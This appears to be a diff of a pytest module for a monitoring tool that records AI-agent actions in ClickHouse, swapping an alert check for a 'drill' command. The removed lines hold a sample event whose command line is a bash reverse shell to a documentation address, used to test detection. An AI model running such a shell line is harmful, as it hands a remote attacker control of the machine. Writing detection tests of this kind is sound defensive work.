@@ -1,6 +1,7 @@
 """Real producers, unchanged, end as actions in ClickHouse: the OpenAI Agents SDK, an OpenAI client
 under OpenTelemetry's GenAI instrumentation, the LiteLLM proxy that it calls, an MCP client and
-server with a tap between them. What they report to is `tacho up`, which Ctrl-C ends.
+server with a tap between them. What they report to is `tacho up`, which a drill has shown to see,
+and which Ctrl-C ends.
 
 They are installed once, into folders of their own under `.cache`, with the versions of
 `producers/requirements.txt` and `litellm.txt`; where no package index can be reached their tests
@@ -16,7 +17,6 @@ import time
 import uuid
 from collections.abc import Callable, Iterator
 from contextlib import ExitStack, contextmanager
-from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any, NamedTuple
 
@@ -92,7 +92,7 @@ class Run(NamedTuple):
 
 @pytest.fixture(scope="module")
 def run(tmp_path_factory: pytest.TempPathFactory) -> Run:
-    """A run in which an alert was raised, and then each producer has ended well."""
+    """A run in which a drill was seen, and then each producer has ended well."""
     folder = tmp_path_factory.mktemp("producers")
     door_port, clickhouse_port, proxy_port = free_ports(3)
     door, clickhouse = (f"http://127.0.0.1:{port}" for port in (door_port, clickhouse_port))
@@ -109,7 +109,8 @@ def run(tmp_path_factory: pytest.TempPathFactory) -> Run:
             lacking = str(error)
         up = stack.enter_context(running.tacho(folder, "up", "--no-demo", "--plain", *ports))
         # What has just begun may tell who sends to wait; not every producer does.
-        _wait_until(lambda: _accepted(f"{door}/v1/actions"), up, folder / "out")
+        _wait_until(lambda: _open(f"{door}/readyz"), up, folder / "out")
+        _wait_until(lambda: _drilled(folder, door), up, folder / "out")
         running.wait_for(folder, running.ALERTED, up)
         if python is not None:
             _run_producers(python, door, proxy)
@@ -138,18 +139,12 @@ def _proxy(litellm: Path, port: int, door: str, out: Path) -> Iterator[str]:
             proxy.kill()
 
 
-def _accepted(url: str) -> bool:
-    """Whether the door takes what nobody takes for anything but an attack."""
-    evil = {
-        "kind": "process",
-        "event_time": datetime.now(UTC).isoformat(),
-        "agent_id": "evil",
-        "process_command_line": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
-    }
-    try:
-        return httpx.post(url, json=[evil], verify=False).status_code == 200  # noqa: S501 - plain HTTP
-    except httpx.HTTPError:
-        return False
+def _drilled(folder: Path, door: str) -> bool:
+    """Whether a drill is an alert in time; one that came before the door takes anything is not."""
+    command = [sys.executable, "-m", "tachograph.pipeline.cli", "drill", "--within", "100"]
+    environment = _clean(TACHO_HOME=str(folder / ".tacho"), TACHO_DOOR_URL=door)
+    done = subprocess.run(command, check=False, env=environment, timeout=WITHIN_S)
+    return done.returncode == 0
 
 
 def _open(url: str) -> bool:
